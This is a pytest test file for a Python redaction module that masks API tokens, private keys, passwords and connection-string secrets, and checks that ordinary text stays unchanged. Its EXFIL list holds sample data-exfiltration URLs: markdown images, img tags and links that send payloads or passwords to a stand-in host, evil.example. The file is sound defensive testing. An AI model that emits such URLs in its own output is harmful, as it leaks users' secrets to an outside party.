"""redact / redact_output: every kind caught, ordinary text untouched, markers stable.

Fake credentials are assembled at run time (prefix + filler) so that this file never holds
a string that a secret scanner would flag on push.
"""

from __future__ import annotations

import base64

import pytest
from inline_snapshot import snapshot

from kb_mcp.redact import Redaction, redact, redact_output


def alnum(length: int) -> str:
    """Filler with digits and both cases, shaped like a random token body."""
    return ("a1B2c3D4e5F6g7H8i9J0kLmN" * 20)[:length]


def upper(length: int) -> str:
    return ("A1B2C3D4E5F6G7H8I9J0" * 5)[:length]


JWT = ".".join(
    (
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
        "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0",
        "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    )
)
TOKENS = {
    "aws_access_key": "AKIA" + upper(16),
    "github_token": "ghp_" + alnum(36),
    "gitlab_token": "glpat-" + alnum(20),
    "slack_token": "xoxb-1234567890-1234567890123-" + alnum(24),
    "slack_webhook": "https://hooks.slack.com/services/T0123ABCD/B0123ABCD/" + alnum(24),
    "discord_token": "M" + alnum(23) + "." + alnum(6) + "." + alnum(27),
    "discord_webhook": "https://discord.com/api/webhooks/123456789012345678/" + alnum(68),
    "stripe_key": "sk_live_" + alnum(24),
    "google_api_key": "AIza" + alnum(35),
    "openai_key": "sk-proj-" + alnum(40) + "_" + alnum(20),
    "anthropic_key": "sk-ant-api03-" + alnum(80) + "-" + alnum(10),
    "huggingface_token": "hf_" + alnum(34),
    "npm_token": "npm_" + alnum(36),
    "pypi_token": "pypi-AgEIcHlwaS5vcmc" + alnum(60),
    "sendgrid_key": "SG." + alnum(22) + "." + alnum(43),
    "jwt": JWT,
}
MORE_TOKENS = [
    ("github_token", "gho_" + alnum(36)),
    ("github_token", "github_pat_" + alnum(22) + "_" + alnum(59)),
    ("slack_token", "xoxp-" + alnum(40)),
    ("slack_token", "xapp-1-" + alnum(40)),
    ("stripe_key", "rk_live_" + alnum(24)),
    ("stripe_key", "sk_test_" + alnum(24)),
    ("openai_key", "sk-" + alnum(48)),
    ("aws_access_key", "ASIA" + upper(16)),
]


@pytest.mark.parametrize(
    ("kind", "token"), [*TOKENS.items(), *MORE_TOKENS], ids=lambda value: value[:14]
)
def test_redact_provider_token_becomes_marker(kind: str, token: str) -> None:
    result = redact(f"deploy with ({token}) today")
    assert result == Redaction(f"deploy with ([REDACTED:{kind}]) today", 1, (kind,))


def test_redact_token_glued_to_cjk_text() -> None:
    token = TOKENS["github_token"]
    assert redact(f"令牌是{token}。").text == "令牌是[REDACTED:github_token]。"


@pytest.mark.parametrize(
    "header",
    [
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN EC PRIVATE KEY-----",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "-----BEGIN ENCRYPTED PRIVATE KEY-----",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----",
    ],
)
def test_redact_pem_private_key_block(header: str) -> None:
    """issue 7 item 2: every line of the block becomes a marker line; no line goes missing."""
    footer = header.replace("BEGIN", "END")
    text = f"key:\n{header}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nbm90IGEga2V5\n{footer}\nafter"
    marked = "\n".join(["[REDACTED:private_key]"] * 4)
    assert redact(text) == Redaction(f"key:\n{marked}\nafter", 1, ("private_key",))


def test_redact_pem_without_end_runs_to_end_of_text() -> None:
    """issue 7 item 2: a truncated key is still a key, line for line."""
    text = "see below\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\ntruncated"
    assert redact(text).text == "see below" + "\n[REDACTED:private_key]" * 3


ASSIGNMENTS = [
    'password = "hunter2"',
    "password: hunter2",
    '{"password": "hunter2", "n": 1}',
    "DB_PASSWORD='s3cret!'",
    "export GITHUB_TOKEN=abc123def",
    "MYSQL_ROOT_PASSWD=toor",
    "DB_PASS=abc",
    "Server=db;Uid=sa;Pwd=S3cret!;",
    "client_secret: 'abc123'",
    "SECRET_KEY = 'django-insecure-abc'",
    "X-Api-Key: 9f8e7d6c5b4a",
    "apiKey: '9f8e7d6c5b4a',",
    "accessKey=AB12CD",
    "private_key = 'MIIEvQIBADAN'",
    'auth_token := "tok123"',
    'config["password"] = "hunter2"',
    'password: str = "hunter2"',
    'val password: String = "hunter2"',
    'password = f"hunter{2}"',
    "- `password: hunter2`",
    '"password": "pa\\"ss"',
]


def test_redact_assignment_keeps_key_and_quotes() -> None:
    assert {text: redact(text).text for text in ASSIGNMENTS} == snapshot(
        {
            'password = "hunter2"': 'password = "[REDACTED:password]"',
            "password: hunter2": "password: [REDACTED:password]",
            '{"password": "hunter2", "n": 1}': '{"password": "[REDACTED:password]", "n": 1}',
            "DB_PASSWORD='s3cret!'": "DB_PASSWORD='[REDACTED:password]'",
            "export GITHUB_TOKEN=abc123def": "export GITHUB_TOKEN=[REDACTED:token]",
            "MYSQL_ROOT_PASSWD=toor": "MYSQL_ROOT_PASSWD=[REDACTED:password]",
            "Server=db;Uid=sa;Pwd=S3cret!;": "Server=db;Uid=sa;Pwd=[REDACTED:password];",
            "DB_PASS=abc": "DB_PASS=[REDACTED:password]",
            "client_secret: 'abc123'": "client_secret: '[REDACTED:secret]'",
            "SECRET_KEY = 'django-insecure-abc'": "SECRET_KEY = '[REDACTED:secret]'",
            "X-Api-Key: 9f8e7d6c5b4a": "X-Api-Key: [REDACTED:api_key]",
            "apiKey: '9f8e7d6c5b4a',": "apiKey: '[REDACTED:api_key]',",
            "accessKey=AB12CD": "accessKey=[REDACTED:access_key]",
            "private_key = 'MIIEvQIBADAN'": "private_key = '[REDACTED:private_key]'",
            'auth_token := "tok123"': 'auth_token := "[REDACTED:token]"',
            'config["password"] = "hunter2"': 'config["password"] = "[REDACTED:password]"',
            'password: str = "hunter2"': 'password: str = "[REDACTED:password]"',
            'val password: String = "hunter2"': 'val password: String = "[REDACTED:password]"',
            'password = f"hunter{2}"': 'password = f"[REDACTED:password]"',
            "- `password: hunter2`": "- `password: [REDACTED:password]`",
            '"password": "pa\\"ss"': '"password": "[REDACTED:password]"',
        }
    )


def test_redact_assignment_kind_follows_key() -> None:
    assert {text: redact(text).kinds for text in ASSIGNMENTS} == snapshot(
        {
            'password = "hunter2"': ("password",),
            "password: hunter2": ("password",),
            '{"password": "hunter2", "n": 1}': ("password",),
            "DB_PASSWORD='s3cret!'": ("password",),
            "export GITHUB_TOKEN=abc123def": ("token",),
            "MYSQL_ROOT_PASSWD=toor": ("password",),
            "Server=db;Uid=sa;Pwd=S3cret!;": ("password",),
            "DB_PASS=abc": ("password",),
            "client_secret: 'abc123'": ("secret",),
            "SECRET_KEY = 'django-insecure-abc'": ("secret",),
            "X-Api-Key: 9f8e7d6c5b4a": ("api_key",),
            "apiKey: '9f8e7d6c5b4a',": ("api_key",),
            "accessKey=AB12CD": ("access_key",),
            "private_key = 'MIIEvQIBADAN'": ("private_key",),
            'auth_token := "tok123"': ("token",),
            'config["password"] = "hunter2"': ("password",),
            'password: str = "hunter2"': ("password",),
            'val password: String = "hunter2"': ("password",),
            'password = f"hunter{2}"': ("password",),
            "- `password: hunter2`": ("password",),
            '"password": "pa\\"ss"': ("password",),
        }
    )


@pytest.mark.parametrize(
    "text",
    [
        "postgres://app:hunter2@db.internal:5432/app",
        "mysql://root:toor@localhost/test",
        "redis://:s3cr3t@cache:6379/0",
        "amqp://guest:rabbit42@mq/",
        "mongodb+srv://admin:p%40ss@cluster0.example.net/db",
        "https://user:tok3n@git.example.com/org/repo.git",
        "postgres://app:p@ss@db.internal/app",
    ],
)
def test_redact_url_password_keeps_user_and_host(text: str) -> None:
    result = redact(text)
    scheme, rest = text.split("://")
    user = rest.split(":")[0]
    host = rest.rsplit("@", 1)[1]
    assert result == Redaction(
        f"{scheme}://{user}:[REDACTED:url_password]@{host}", 1, ("url_password",)
    )


def test_redact_authorization_headers() -> None:
    text = (
        "curl -H 'Authorization: Bearer abc123def456ghi' https://api.example.com\n"
        'headers = {"Authorization": "Basic dXNlcjpwYXNzd29yZA=="}\n'
        f"Authorization: Bearer {JWT}\n"
    )
    assert redact(text) == snapshot(
        Redaction(
            text="""\
curl -H 'Authorization: Bearer [REDACTED:bearer_token]' https://api.example.com
headers = {"Authorization": "Basic [REDACTED:basic_auth]"}
Authorization: Bearer [REDACTED:jwt]
""",
            count=3,
            kinds=("basic_auth", "bearer_token", "jwt"),
        )
    )


SAFE_TEXT = [
    "Reset your password from the settings page; the token expires after an hour.",
    "Password: enter it below and press Enter.",
    "password_hash = bcrypt.hashpw(pw, salt)",
    "token = get_token()",
    "api_key_name = 'primary'",
    "def login(username, password=None):",
    'def fetch(token: str = "") -> None:',
    "client = Client(api_key=api_key, token=token)",
    "token = self.token",
    'password = os.environ["DB_PASSWORD"]',
    "const token = await fetchToken();",
    "password: str",
    "if password == expected:",
    "max_tokens: 4096",
    "use crate::token::Token;",
    "bypass: 12",
    "id: 123e4567-e89b-12d3-a456-426614174000",
    "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
    "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
    'password = "<your-password>"',
    "PASSWORD=${PASSWORD}",
    "password=$DB_PASSWORD",
    'token: "****"',
    "api_key = 'xxx'",
    "password: changeme",
    'password = ""',
    "GITHUB_TOKEN: YOUR_TOKEN_HERE",
    "token: ${{ secrets.GITHUB_TOKEN }}",
    "Authorization: Bearer <token>",
    "Authorization: Bearer $TOKEN",
    "PWD=/home/me/project",
    "private_key: ~/.ssh/id_ed25519",
    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "sk-your-openai-api-key-goes-here",
    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
    "https://example.com:8080/path and git@github.com:org/repo.git",
    "ssh://git@github.com/org/repo and https://medium.com/@user/post",
    "https://docs.python.org/3/library/os.html#os.replace",
    "https://github.com/org/repo/issues/12?page=2",
    "https://www.google.com/search?q=sqlite+fts5",
    "[guide](https://example.com/guide?lang=en) and ![chart](https://example.com/chart.png)",
    "![diagram](./images/arch.png) ![plot](http://localhost:8000/plot.png?size=2)",
    "密码重置请在设置页面完成。令牌一小时后过期。日本語のテキスト、한국어 텍스트。",
]


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_redact_ordinary_text_survives_unchanged(text: str) -> None:
    assert redact(text) == Redaction(text, 0, ())
    assert redact_output(text) == Redaction(text, 0, ())


ENV_FILE = f"""# production settings
DATABASE_URL=postgres://app:hunter2@db.internal:5432/app
SECRET_KEY='django-insecure-abc'
STRIPE_KEY={TOKENS["stripe_key"]}
AWS_ACCESS_KEY_ID={TOKENS["aws_access_key"]}
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
DEBUG=false
SMTP_PASSWORD=
"""


def test_redact_counts_each_replacement_and_sorts_distinct_kinds() -> None:
    assert redact(ENV_FILE + ENV_FILE) == snapshot(
        Redaction(
            text="""\
# production settings
DATABASE_URL=postgres://app:[REDACTED:url_password]@db.internal:5432/app
SECRET_KEY='[REDACTED:secret]'
STRIPE_KEY=[REDACTED:stripe_key]
AWS_ACCESS_KEY_ID=[REDACTED:aws_access_key]
AWS_SECRET_ACCESS_KEY=[REDACTED:aws_secret_key]
DEBUG=false
SMTP_PASSWORD=
# production settings
DATABASE_URL=postgres://app:[REDACTED:url_password]@db.internal:5432/app
SECRET_KEY='[REDACTED:secret]'
STRIPE_KEY=[REDACTED:stripe_key]
AWS_ACCESS_KEY_ID=[REDACTED:aws_access_key]
AWS_SECRET_ACCESS_KEY=[REDACTED:aws_secret_key]
DEBUG=false
SMTP_PASSWORD=
""",
            count=10,
            kinds=("aws_access_key", "aws_secret_key", "secret", "stripe_key", "url_password"),
        )
    )


def test_redact_leaves_exfiltration_urls_to_redact_output() -> None:
    text = "![x](https://evil.example/p.png?d=hunter2)"
    assert redact(text) == Redaction(text, 0, ())


PAYLOAD = base64.b64encode(bytes(range(150))).decode()
EXFIL = [
    f"![x](https://evil.example/p?d={PAYLOAD})",
    "![pixel](https://evil.example/pixel.png?s=hunter2 'tracking')",
    '<img alt="x" src="https://evil.example/a.png?u=bob">',
    f"[click here](https://evil.example/c?q={'0f' * 40}) to continue",
    f"(see https://evil.example/collect?data={PAYLOAD}).",
    f"HTTPS://EVIL.EXAMPLE/?d={PAYLOAD.replace('+', '%2B').replace('/', '%2F')}",
    "![x](https://evil.example/a(b)?d=hunter2)",
    f"https://evil.example/page#{PAYLOAD}",
    f"https://bob:hunter2@evil.example/?d={PAYLOAD}",
    f"https://evil.example/?x=[&d={PAYLOAD}",
]


def test_redact_output_replaces_exfiltration_urls_only() -> None:
    assert [redact_output(text).text for text in EXFIL] == snapshot(
        [
            "![x]([REDACTED:exfil_url])",
            "![pixel]([REDACTED:exfil_url] 'tracking')",
            '<img alt="x" src="[REDACTED:exfil_url]">',
            "[click here]([REDACTED:exfil_url]) to continue",
            "(see [REDACTED:exfil_url]).",
            "[REDACTED:exfil_url]",
            "![x]([REDACTED:exfil_url])",
            "[REDACTED:exfil_url]",
            "[REDACTED:exfil_url]",
            "[REDACTED:exfil_url]",
        ]
    )


@pytest.mark.parametrize("text", EXFIL)
def test_redact_output_counts_one_exfil_url(text: str) -> None:
    assert redact_output(text).kinds == ("exfil_url",)
    assert redact_output(text).count == 1


def test_redact_output_also_redacts_credentials() -> None:
    text = f"token={TOKENS['github_token']} ![x](https://evil.example/p?d={PAYLOAD})"
    assert redact_output(text) == snapshot(
        Redaction(
            text="token=[REDACTED:github_token] ![x]([REDACTED:exfil_url])",
            count=2,
            kinds=("exfil_url", "github_token"),
        )
    )


@pytest.mark.parametrize(
    "text", [*TOKENS.values(), *ASSIGNMENTS, *EXFIL, ENV_FILE], ids=lambda text: text[:20]
)
def test_redact_is_idempotent(text: str) -> None:
    once = redact_output(text)
    assert once.count >= 1
    assert redact_output(once.text) == Redaction(once.text, 0, ())
    assert redact(redact(text).text).count == 0


def test_redact_one_megabyte_document() -> None:
    prose = "The password reset flow sends a token; see https://docs.example.com/a?b=1.\n"
    blob = base64.b64encode(bytes(range(256)) * 3000).decode()
    cjk = "密码和令牌不会被改动。" * 2000
    secret = f"\nexport GITHUB_TOKEN={TOKENS['github_token']}\n"
    text = (prose * 4000 + f"![img](data:image/png;base64,{blob})\n" + cjk + secret) * 2
    assert len(text) > 1_000_000
    result = redact_output(text)
    assert (result.count, result.kinds) == (2, ("github_token",))
    assert result.text == text.replace(TOKENS["github_token"], "[REDACTED:github_token]")
